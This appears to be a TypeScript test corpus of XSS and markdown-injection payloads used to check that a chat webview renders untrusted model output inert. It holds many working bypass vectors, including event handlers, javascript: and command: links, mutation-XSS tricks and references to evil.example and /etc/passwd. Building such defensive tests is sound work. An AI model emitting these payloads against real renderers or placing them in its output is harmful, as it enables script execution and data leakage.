/**
 * XSS and markdown-injection payloads for the chat webview. Answers are untrusted model output;
 * every payload here must render inert in the real webview, whole and at every streamed prefix.
 *
 * Every payload that could run script tries to set `window.__pwned` (or `parent.__pwned` from a
 * frame) to its own name, and the DOM-clobbering ones name elements `__pwned`, so a run can tell
 * that nothing executed and which payload it would have been.
 */

export interface XssPayload {
  /** Unique, `[a-z0-9-]+`: it is also the value the payload tries to put in `window.__pwned`. */
  readonly name: string;
  readonly markdown: string;
}

/** `build` gets the script to run in the page (`js`) and in a child frame (`parentJs`). */
function payload(name: string, build: (js: string, parentJs: string) => string): XssPayload {
  return { name, markdown: build(`window.__pwned='${name}'`, `parent.__pwned='${name}'`) };
}

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

/** `&#NNN;` for every character of `text`. */
const decimalEntities = (text: string): string => Array.from(text, (c) => `&#${c.codePointAt(0)};`).join('');

/** `%XX` for every character of `text` (ASCII only). */
const percentEncoded = (text: string): string => Array.from(text, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

export const xssCorpus: readonly XssPayload[] = [
  // ------------------------------------------------------------------------------ raw <script>
  payload('script-raw', (js) => `<script>${js}</script>`),
  payload('script-uppercase', (js) => `<SCRIPT>${js}</SCRIPT>`),
  payload('script-split-across-lines', (js) => `a <scr\nipt>${js}</script>\n\n<script\n>${js}</script\n>`),
  payload('script-split-by-comment', (js) => `<scr<!-- -->ipt>${js}</script><<script>script>${js}</script>`),
  payload('script-null-bytes', (js) => `<scr\u0000ipt>${js}</script><script\u0000>${js}</script>`),
  payload('script-src-data', (js) => `<script src="data:,${encodeURIComponent(js)}"></script>`),
  payload('script-in-markdown-blocks', (js) => `# <script>${js}</script>\n\n> **<script>${js}</script>**`),
  payload('script-in-html-block', (js) => `<div>\n<script>\n${js}\n</script>\n</div>`),

  // -------------------------------------------------------------------------- event handlers
  payload('img-onerror', (js) => `<img src=x onerror="${js}">`),
  payload('img-onerror-slashes', (js) => `<IMG/SRC=x/ONERROR=${js}>`),
  payload('img-onload-https', (js) => `<img src="https://evil.example/p.png" onload="${js}">`),
  payload('svg-onload', (js) => `<svg onload="${js}"><circle r="1"/></svg>`),
  payload('svg-slash-onload', (js) => `<svg/onload=${js}>`),
  payload('body-onload', (js) => `<body onload="${js}">`),
  payload('details-ontoggle', (js) => `<details open ontoggle="${js}">`),
  payload('video-source-onerror', (js) => `<video><source onerror="${js}"></video>`),
  payload('audio-onerror', (js) => `<audio src=x onerror="${js}">`),
  payload('iframe-onload', (js) => `<iframe onload="${js}"></iframe>`),
  payload('input-autofocus-onfocus', (js) => `<input autofocus onfocus="${js}">`),
  payload('textarea-autofocus-onfocus', (js) => `<textarea autofocus onfocus="${js}"></textarea>`),
  payload('marquee-onstart', (js) => `<marquee onstart="${js}">x</marquee>`),
  payload('anchor-onclick', (js) => `<a href="https://ok.example" onclick="${js}">x</a>`),
  payload('animation-handler', (js) => `<p style="animation:spin 1s" onanimationstart="${js}">x</p>`),
  payload('button-onclick', (js) => `<button onclick="${js}">Run</button>`),

  // ----------------------------------------------------------------------- schemes in links
  payload('link-javascript', (js) => `[click me](javascript:${js})`),
  payload('link-javascript-mixed-case', (js) => `[click](JaVaScRiPt:${js})`),
  payload('link-javascript-entity', (js) => `[click](&#106;avascript:${js})`),
  payload('link-javascript-all-entities', (js) => `[click](${decimalEntities('javascript:')}${js})`),
  payload('link-javascript-entity-colon', (js) => `[click](javascript&colon;${js})`),
  payload('link-javascript-entity-tab', (js) => `[a](java&#x09;script:${js})`),
  payload('link-javascript-percent', (js) => `[a](${percentEncoded('java')}script%3A${js})`),
  payload('link-javascript-angle-brackets', (js) => `[click](<javascript:${js}>)`),
  payload('link-javascript-control-chars', (js) => `[a](<\u000bjavascript:${js}>) [b](java\u0000script:x)`),
  payload('link-javascript-whitespace', (js) => `[a]( javascript:${js}) [b](&#32;javascript:x)`),
  payload('link-javascript-backslash', (js) => `[a](javascript\\:${js})`),
  payload('link-vbscript', () => '[x](vbscript:msgbox("pwned"))'),
  payload('link-data-html', (_js, parentJs) => `[x](data:text/html;base64,${base64(`<script>${parentJs}</script>`)})`),
  payload('link-command', () => '[open terminal](command:workbench.action.terminal.new)'),
  payload('link-command-arguments', () => '[x](command:vscode.open?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)'),
  payload('link-command-mixed-case', () => '[x](CoMmAnD:workbench.action.reloadWindow)'),
  payload('link-vscode', () => '[clone](vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Fr)'),
  payload('link-file', () => '[x](file:///etc/passwd)'),
  payload('link-relative', () => '[a](//evil.example/p) [b](/etc/passwd) [c](https:evil.example)'),

  // ----------------------------------------------------------------------------- autolinks
  payload('autolink-javascript', (js) => `<javascript:${js}>`),
  payload('autolink-command', () => '<command:workbench.action.terminal.new>'),
  payload('autolink-data-file-vscode', () => '<data:text/html,x> <file:///etc/passwd> <vscode://x/y>'),
  payload('linkify-bare-schemes', (js) => `see javascript:${js} or command:workbench.action.terminal.new`),
  payload('linkify-breakout', (js) => `https://ok.example/"><img src=x onerror=${js}>`),

  // ---------------------------------------------------------------- reference-style and images
  payload('reference-javascript', (js) => `[click][evil]\n\n[evil]: javascript:${js}`),
  payload('reference-command', () => '[run][c]\n\n[c]: command:workbench.action.terminal.new "Run"'),
  payload('reference-image-javascript', (js) => `![diagram][i]\n\n[i]: javascript:${js}`),
  payload('reference-title-breakout', (js) => `[click][r]\n\n[r]: https://ok.example "a\\" onmouseover=\\"${js}"`),
  payload('image-javascript-src', (js) => `![x](javascript:${js})`),
  payload('image-data-svg', (js) => `![x](data:image/svg+xml;base64,${base64(`<svg onload="${js}"/>`)})`),
  payload('image-alt-breakout', (js) => `![a" onerror="${js}](https://evil.example/x.png)`),
  payload('image-title-breakout', (js) => `![a](https://evil.example/x.png "t\\" onerror=\\"${js}")`),
  payload('image-tracking-pixel', () => '![pixel](https://evil.example/pixel.gif?u=1)'),
  payload('link-title-breakout', (js) => `[a](https://ok.example "t\\" onclick=\\"${js}")`),
  payload('link-href-quote-breakout', (js) => `[x](https://ok.example/"onmouseover="${js})`),
  payload('link-text-html', (js) => `[<img src=x onerror=${js}>](https://ok.example)`),

  // ---------------------------------------------------------------------------- SVG, MathML
  payload('svg-use-href', (js) => `<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror=&quot;${js}&quot;/></svg>#x"/></svg>`),
  payload('svg-animate-href', (js) => `<svg><a><animate attributeName=href values=javascript:${js} /><text>x</text></a></svg>`),
  payload('svg-set-handler', (js) => `<svg><set attributeName=onmouseover to="${js}"/></svg>`),
  payload('svg-foreignobject', (_js, parentJs) => `<svg><foreignObject><iframe srcdoc="<script>${parentJs}</script>"></iframe></foreignObject></svg>`),
  payload('svg-script-xlink', (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`),
  payload('math-xlink-href', (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`),

  // -------------------------------------------------------------------------- CSS injection
  payload('style-tag-hide-and-fetch', () => '<style>body{display:none} *{background:url(https://evil.example/x)}</style>'),
  payload('style-tag-import', () => "<style>@import 'https://evil.example/x.css';</style>"),
  payload('style-tag-url-javascript', (js) => `<style>body{background:url("javascript:${js}")}</style>`),
  payload('style-attr-overlay', () => '<div style="position:fixed;inset:0;background:url(https://evil.example/t)">x</div>'),
  payload('style-attr-expression', (js) => `<div style="width:expression(${js})">x</div>`),
  payload('style-attr-url-javascript', (js) => `<span style="background:url(javascript:${js})">z</span>`),
  payload('style-in-table-cell', () => '| x |\n|:-:|\n| <span style="color:red">y</span> |'),

  // ---------------------------------------------------- document-level and embedding elements
  payload('base-href', (js) => `<base href="javascript:${js}//">[relative](x)`),
  payload('meta-refresh', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}"><meta http-equiv=refresh content="0;url=https://evil.example">`),
  payload('form-action', (js) => `<form action="javascript:${js}"><button>go</button></form>`),
  payload('form-formaction', (js) => `<form><button formaction="javascript:${js}">x</button></form>`),
  payload('object-data', (_js, parentJs) => `<object data="javascript:${parentJs}"></object>`),
  payload('embed-src', (_js, parentJs) => `<embed src="data:text/html,${encodeURIComponent(`<script>${parentJs}</script>`)}">`),
  payload('link-rel-import', () => '<link rel=import href="https://evil.example/x.html"><link rel=stylesheet href="https://evil.example/x.css">'),
  payload('iframe-javascript-src', (_js, parentJs) => `<iframe src="javascript:${parentJs}"></iframe>`),
  payload('iframe-srcdoc', (_js, parentJs) => `<iframe srcdoc="<script>${parentJs}</script>"></iframe>`),

  // ------------------------------------------------------------------- template-ish injection
  payload('template-injection', (js) => `{{constructor.constructor("${js}")()}} \${${js}}`),

  // ------------------------------------------------------------------------- code fences
  payload('fence-info-breakout', (js) => `\`\`\`js" onmouseover="${js}\nalert(1)\n\`\`\``),
  payload('fence-info-html', (js) => `\`\`\`<img src=x onerror=${js}>\ncode\n\`\`\``),
  payload('fence-content-closing-tags', (js) => `\`\`\`\n</code></pre><script>${js}</script>\n\`\`\``),
  payload('fence-html-inside', (js) => `\`\`\`html\n<script>${js}</script>\n<img src=x onerror="${js}">\n\`\`\``),
  payload('fence-unclosed-html', (js) => `Look:\n\n\`\`\`xml\n<svg onload="${js}"><script>${js}</script>`),
  payload('fence-unclosed-tilde', (js) => `~~~html\n<img src=x onerror="${js}">`),
  payload('fence-longer-fence-unclosed', (js) => `\`\`\`\`md\n\`\`\`\n<img src=x onerror="${js}">\n\`\`\`\n`),
  payload('fence-in-quote-and-list', (js) => `> \`\`\`html\n> <img src=x onerror="${js}">\n\n- \`\`\`\n  <script>${js}</script>`),
  payload('fence-closed-then-html', (js) => `\`\`\`\ncode\n\`\`\`\n<img src=x onerror="${js}">`),
  payload('indented-code-html', (js) => `Text\n\n    <script>${js}</script>\n\nafter`),
  payload('inline-code-html', (js) => `\`<img src=x onerror=${js}>\``),

  // ------------------------------------------------------------------ HTML inside markdown
  payload('emphasis-around-html', (js) => `*<img src=x onerror=${js}>* __<script>${js}</script>__`),
  payload('table-cell-html', (js) => `| a | b |\n|---|:-:|\n| <img src=x onerror=${js}> | <b onclick="${js}">x</b> |`),
  payload('heading-and-quote-html', (js) => `## <img src=x onerror=${js}>\n\n> <svg onload=${js}>`),
  payload('raw-anchor-javascript', (js) => `<a href="javascript:${js}">x</a>`),
  payload('html-comment-breakout', (js) => `<!-- --><img src=x onerror="${js}"> -->`),
  payload('cdata-breakout', (js) => `<![CDATA[><img src=x onerror="${js}">]]>`),
  payload('encoded-entities', (js) => `&lt;script&gt;${js}&lt;/script&gt; &#60;img src=x onerror=${js}&#62;`),
  payload('unicode-lookalikes', (js) => `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E [\u202Egnp.exe](javascript:${js})`),

  // ----------------------------------------------------------------- mutation-XSS classics
  payload('mxss-noscript-title', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`),
  payload('mxss-svg-style', (js) => `<svg><style><img src=x onerror=${js}></style></svg>`),
  payload('mxss-form-math', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`),
  payload('mxss-math-mglyph-style', (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`),
  payload('mxss-rcdata-elements', (js) => `<title><img src=x onerror=${js}></title><textarea><img src=x onerror=${js}>`),
  payload('mxss-template', (js) => `<template><img src=x onerror=${js}></template>`),
  payload('mxss-namespace-confusion', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`),

  // --------------------------------------------------------------------- DOM clobbering
  payload('clobber-proto', () => '<a id=__proto__ href=#>x</a><form name=__proto__></form>'),
  payload('clobber-pwned-by-name', () => '<img name=__pwned src=x><form name=__pwned></form>'),
  payload('clobber-pwned-by-id', () => '<a id=__pwned href="https://ok.example">x</a>'),
  payload('clobber-document-apis', () => '<img name=getElementById><form name=querySelector></form>'),

  // -------------------------------------------------------------------------- very long
  payload('long-many-vectors', (js) =>
    Array.from({ length: 6 }, (_, i) => `<img src=x${i} onerror="${js}"> [l${i}](javascript:${js})`).join(' ')),
  payload('long-link-destination', (js) => `[x](javascript:/*${'A'.repeat(500)}*/${js})`),
  payload('long-deep-nesting', (js) => `Deep:\n\n${'> '.repeat(60)}${'- '.repeat(50)}<img src=x onerror="${js}">`),
];
